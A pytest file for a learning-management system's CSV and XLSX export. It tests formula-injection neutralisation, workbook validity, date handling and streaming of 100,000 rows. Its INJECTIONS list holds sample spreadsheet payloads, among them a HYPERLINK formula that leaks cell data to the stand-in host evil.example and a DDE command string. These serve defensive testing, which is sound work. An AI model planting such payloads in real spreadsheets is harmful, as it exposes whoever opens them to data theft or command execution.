"""lms/export.py: formula injection through both formats, a valid XLSX, and streaming in flat memory."""
from __future__ import annotations

import csv
import io
import tracemalloc
import zipfile
from datetime import date, datetime, timedelta, timezone
from decimal import Decimal

import openpyxl
import pytest

from lms.export import csv_stream, safe_cell, sheet_title, xlsx_stream

#: what an attacker might type into a name or a note, and what a spreadsheet must show instead
INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Klik")', "+1+1", "-2", "@SUM(A1:A9)", "\t=1+1",
              "\r=cmd|' /C calc'!A0", "=1+1\n=2+2"]


def _xlsx(header, rows, name="Data"):  # type: ignore[no-untyped-def]
    data = b"".join(xlsx_stream(name, header, rows))
    return data, openpyxl.load_workbook(io.BytesIO(data))


def _csv(header, rows) -> list[list[str]]:  # type: ignore[no-untyped-def]
    text = "".join(csv_stream(header, rows))
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:], newline="")))


@pytest.mark.parametrize("value", INJECTIONS)
def test_injection_is_neutralised_in_csv_and_xlsx(value):
    assert _csv(["Catatan"], [[value]])[1] == ["'" + value]
    _data, wb = _xlsx(["Catatan"], [[value]])
    cell = wb.active["A2"]
    assert cell.data_type == "s"
    assert cell.value == "'" + value.replace("\r\n", "\n")


def test_header_cells_are_neutralised_too():
    assert _csv(["=bahaya", "aman"], [])[0] == ["'=bahaya", "aman"]
    _data, wb = _xlsx(["=bahaya", "aman"], [])
    assert wb.active["A1"].value == "'=bahaya" and wb.active["B1"].value == "aman"


def test_numbers_stay_numbers_and_text_that_looks_like_one_stays_text():
    rows = [[-6.2, -3, 0, Decimal("1500000.50"), "-6.2", "0812-3456-7890", 10**20]]
    assert _csv(list("abcdefg"), rows)[1] == ["-6.2", "-3", "0", "1500000.50", "'-6.2", "0812-3456-7890",
                                              "100000000000000000000"]
    _data, wb = _xlsx(list("abcdefg"), rows)
    a, b, c, d, e, f, g = wb.active[2]
    assert (a.value, a.data_type) == (-6.2, "n")
    assert (b.value, b.data_type) == (-3, "n") and (c.value, c.data_type) == (0, "n")
    assert (d.value, d.data_type) == (1500000.5, "n")
    assert (e.value, e.data_type) == ("'-6.2", "s")  # text from the user is never a number
    assert f.value == "0812-3456-7890"
    assert (g.value, g.data_type) == ("100000000000000000000", "s")  # too long for a double: kept exact as text


def test_xlsx_is_a_valid_workbook_with_bold_frozen_header_and_real_dates():
    header = ["Nama", "Tanggal", "Waktu (WIB)", "Jumlah", "Ya?"]
    aware = datetime(2018, 4, 10, 17, 30, tzinfo=timezone.utc)  # 00:30 WIB the next day
    rows = [["Siti Aminah", date(2018, 4, 10), datetime(2018, 4, 10, 8, 30, 15), 3, True],
            ["Budi", None, aware, None, False],
            ["Rina & <Sari> \"KUBE\"", date(2024, 2, 29), datetime(2024, 2, 29, 23, 59), 7, None]]
    data, wb = _xlsx(header, rows, name="Kehadiran Bimtek")
    with zipfile.ZipFile(io.BytesIO(data)) as zf:
        assert zf.testzip() is None
        assert set(zf.namelist()) == {"[Content_Types].xml", "_rels/.rels", "xl/workbook.xml",
                                      "xl/_rels/workbook.xml.rels", "xl/styles.xml", "xl/worksheets/sheet1.xml"}
    ws = wb.active
    assert ws.title == "Kehadiran Bimtek"
    assert ws.freeze_panes == "A2"
    assert [c.value for c in ws[1]] == header and all(c.font.b for c in ws[1])
    assert not ws["A2"].font.b
    assert ws.max_row == 4 and ws.max_column == 5
    assert ws["B2"].is_date and ws["B2"].value == datetime(2018, 4, 10)
    assert ws["B2"].number_format.replace("\\", "") == "yyyy-mm-dd"
    assert ws["C2"].is_date and ws["C2"].value == datetime(2018, 4, 10, 8, 30, 15)
    assert "hh:mm" in ws["C2"].number_format
    assert ws["C3"].value == datetime(2018, 4, 11, 0, 30)  # aware datetimes are shown in WIB
    assert ws["B3"].value is None and ws["D3"].value is None
    assert ws["B4"].value == datetime(2024, 2, 29) and ws["C4"].value == datetime(2024, 2, 29, 23, 59)
    assert ws["A4"].value == 'Rina & <Sari> "KUBE"'
    assert (ws["E2"].value, ws["E3"].value) == (True, False)


def test_xlsx_drops_characters_xml_forbids_and_cuts_overlong_cells():
    nasty = "a\x00b\x07c\x1bd\ufffe" + "\ud800e"
    _data, wb = _xlsx(["x"], [[nasty], ["\x00=1+1"], ["z" * 40_000], ["  spasi  "], ["baris\r\nbaru"]])
    ws = wb.active
    assert ws["A2"].value == "abcde"
    assert ws["A3"].value == "'=1+1"  # a hidden NUL does not smuggle a formula past the check
    assert len(ws["A4"].value) == 32767 and ws["A4"].value.endswith("…")
    assert ws["A5"].value == "  spasi  "
    assert ws["A6"].value == "baris\r\nbaru"


def test_sheet_titles_are_made_valid():
    assert sheet_title("Kemajuan: per/pengelola [DKI]") == "Kemajuan per pengelola DKI"
    assert sheet_title("x" * 40) == "x" * 31
    assert sheet_title("???") == "Data"
    _data, wb = _xlsx(["a"], [], name="Ekspor: a/b")
    assert wb.active.title == "Ekspor a b"


def test_an_empty_export_is_still_a_workbook_and_a_csv():
    _data, wb = _xlsx(["Nama", "E-mail"], iter([]))
    assert [c.value for c in wb.active[1]] == ["Nama", "E-mail"] and wb.active.max_row == 1
    assert _csv(["Nama"], iter([])) == [["Nama"]]


def test_safe_cell_writes_times_readably():
    assert safe_cell(datetime(2018, 4, 10, 8, 30)) == "2018-04-10 08:30:00"
    assert safe_cell(date(2018, 4, 10)) == "2018-04-10"
    assert safe_cell(True) == "1"


# --- streaming ------------------------------------------------------------------------------------

N = 100_000


class Counted:
    """100,000 synthetic rows, made one at a time, counting how many were taken."""

    def __init__(self, n: int = N) -> None:
        self.n = n
        self.taken = 0

    def __iter__(self):  # type: ignore[no-untyped-def]
        start = datetime(2018, 4, 10, 8, 0)
        for i in range(self.n):
            self.taken += 1
            yield [i, f"Pengelola e-Warong {i:06d}", f"EW-3171-{i % 9999:04d}", start.date(),
                   start + timedelta(minutes=i), -6.175392 + i / 1e6, "=bahaya" if i % 1000 == 0 else "aman",
                   "Jl. Kebon Sirih No. " + str(i)]


HEADER = ["No", "Nama", "Kode", "Tanggal", "Waktu", "Lintang", "Catatan", "Alamat"]


@pytest.mark.slow
@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_100k_rows_stream_in_flat_memory_and_arrive_early(kind):
    rows = Counted()
    stream = xlsx_stream("Data", HEADER, iter(rows)) if kind == "xlsx" else csv_stream(HEADER, iter(rows))
    tracemalloc.start()
    try:
        chunks = 0
        size = 0
        taken_at_first_row_chunk = None
        for chunk in stream:
            chunks += 1
            size += len(chunk)
            if taken_at_first_row_chunk is None and rows.taken:
                taken_at_first_row_chunk = rows.taken
        _current, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert rows.taken == N
    assert taken_at_first_row_chunk is not None and taken_at_first_row_chunk < N // 10
    assert chunks > 50
    assert size > 1_000_000  # the whole file went through, not a stub
    assert peak < 20 * 1024 * 1024, f"peak {peak / 1e6:.1f} MB"


def test_the_streamed_xlsx_of_many_rows_reads_back_whole():
    rows = Counted(3_000)
    data = b"".join(xlsx_stream("Data", HEADER, iter(rows)))
    wb = openpyxl.load_workbook(io.BytesIO(data), read_only=True)
    ws = wb.active
    got = list(ws.iter_rows(min_row=2, values_only=True))
    assert len(got) == 3_000
    assert got[0][:3] == (0, "Pengelola e-Warong 000000", "EW-3171-0000") and got[0][6] == "'=bahaya"
    assert got[-1][0] == 2_999 and got[-1][4] == datetime(2018, 4, 10, 8, 0) + timedelta(minutes=2_999)
    wb.close()
